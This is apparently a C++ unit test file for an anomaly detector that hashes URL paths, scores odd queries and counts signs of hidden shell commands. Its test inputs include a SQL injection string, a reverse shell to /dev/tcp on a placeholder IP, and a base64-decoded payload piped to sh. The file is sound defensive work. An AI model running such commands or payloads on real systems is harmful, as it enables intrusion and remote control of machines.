#include "anomaly/text_shape.h"

#include "base/random.h"

#include <doctest/doctest.h>

#include <array>
#include <cmath>
#include <string>
#include <utility>

namespace vedette::anomaly {
namespace {

TEST_SUITE("anomaly/text_shape") {
  TEST_CASE("paths that differ in their ids alone are one path") {
    const auto hash = [](std::string_view path) { return path_shape(path).hash; };
    CHECK(hash("/user/17/posts") == hash("/user/90210/posts"));
    CHECK(hash("/o/550e8400e29b41d4a716446655440000") == hash("/o/deadbeefdeadbeefdeadbeef"));
    CHECK(hash("/img/2026-11-21.png") == hash("/img/2025-01-02.png"));
    CHECK(hash("/admin") != hash("/admix"));
    CHECK(hash("/a/b") != hash("/ab"));
    CHECK(hash("/face") != hash("/0"));
    CHECK(hash("/17") != hash("/"));
    CHECK(hash("") != 0);
  }

  TEST_CASE("the next number in a path is the next place, and another path is elsewhere") {
    const auto steps = [](std::string_view from, std::string_view to) {
      return path_shape(to).place - path_shape(from).place;
    };
    CHECK(steps("/members/9", "/members/10") == 1);
    CHECK(steps("/members/0099", "/members/0100") == 1);
    CHECK(steps("/v1/a-17.zip", "/v1/a-18.zip") == 1);
    CHECK(steps("/users/17/orders/3", "/users/17/orders/4") == 1);  // the last number counts
    CHECK(steps("page=2&size=20", "page=2&size=21") == 1);
    for (const auto& [from, to] : {std::pair{"/v1/a-17.zip", "/v2/a-17.zip"},
                                   std::pair{"/users/17/orders/3", "/users/18/orders/4"},
                                   std::pair{"page=2&size=20", "page=3&size=20"}}) {
      CHECK(steps(from, to) > 1);
      CHECK(steps(to, from) > 1);
    }
    CHECK(steps("page=4294967295", "page=4294967296") == 1);
    CHECK(steps("/members/9", "/objects/10") != 1);
    CHECK(steps("/members/", "/members/") == 0);
  }

  TEST_CASE("parts of a path are what stands between its slashes") {
    CHECK(path_shape("").depth == 0);
    CHECK(path_shape("/").depth == 0);
    CHECK(path_shape("/a").depth == 1);
    CHECK(path_shape("//a///b/").depth == 2);
    CHECK(path_shape("a/b").depth == 2);
  }

  TEST_CASE("the entropy of a path is that of its bytes") {
    Random random(12);
    CHECK(path_shape("").entropy == 0);
    CHECK(path_shape("////////").entropy == 0);
    for (int round = 0; round < 500; ++round) {
      std::string path;
      std::array<double, 64> counts{};
      const std::uint32_t letters = random.between(1, 26), size = random.between(1, 512);
      while (path.size() < size) {
        path += static_cast<char>('a' + random.below(letters));
        ++counts[static_cast<unsigned char>(path.back()) & 63];
      }
      double entropy = 0;
      for (const double count : counts) {
        if (count > 0) entropy -= count / size * std::log2(count / size);
      }
      CHECK(path_shape(path).entropy == doctest::Approx(entropy).epsilon(0.002));
    }
  }

  TEST_CASE("queries are odd by what they mean, not by how they are written") {
    CHECK(query_oddness("") == 0);
    CHECK(query_oddness("page=2&sort=asc&tags=a,b") == 0);
    CHECK(query_oddness("q=caf%65") == 0);
    CHECK(query_oddness("q=''''") == doctest::Approx(4.0 / 6));
    CHECK(query_oddness("q=%27%27%27%27") == doctest::Approx(4.0 / 6));
    CHECK(query_oddness("id=1' OR '1'='1") > 0.3f);
    CHECK(query_oddness("%") == 1);
    CHECK(query_oddness("a%2") == doctest::Approx(1.0 / 3));
  }

  TEST_CASE("commands that differ in their arguments alone are one command") {
    const auto hash = [](std::string_view command) { return command_shape(command).hash; };
    CHECK(hash("ls -la /home") == hash("/bin/ls -al /tmp"));
    CHECK(hash("sudo systemctl restart nginx") == hash("systemctl stop ssh"));
    CHECK(hash("LANG=C wget --quiet --output-document=x http://a") ==
          hash("wget --output-document=y --quiet http://b"));
    CHECK(hash("ls") != hash("ls -l"));
    CHECK(hash("cat a | sh") != hash("cat a"));
    CHECK(hash("cat a; sh") != hash("sh; cat a"));
    CHECK(hash("") != 0);
  }

  TEST_CASE("each sign of a hidden command counts once") {
    const auto signs = [](std::string_view command) {
      return std::lround(command_shape(command).oddness * kCommandSigns);
    };
    CHECK(signs("") == 0);
    CHECK(signs("/usr/lib/update-notifier/apt-check --human-readable") == 0);
    CHECK(signs("systemctl restart systemd-networkd-wait-online.service") == 0);
    CHECK(signs("ps aux | grep ssh") == 1);
    CHECK(signs("a || b") == 1);
    CHECK(signs("make && make install; reboot") == 1);
    CHECK(signs("echo 1 > /tmp/x") == 1);
    CHECK(signs("echo $(id)") == 1);
    CHECK(signs("echo `id`") == 1);
    CHECK(signs("echo -e \\x41\\x42") == 1);
    CHECK(signs("curl http://192.0.2.1/x") == 1);
    CHECK(signs("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=") == 1);
    CHECK(signs("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1") == 2);
    CHECK(signs("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh; rm x") == 3);
  }
}

}  // namespace
}  // namespace vedette::anomaly
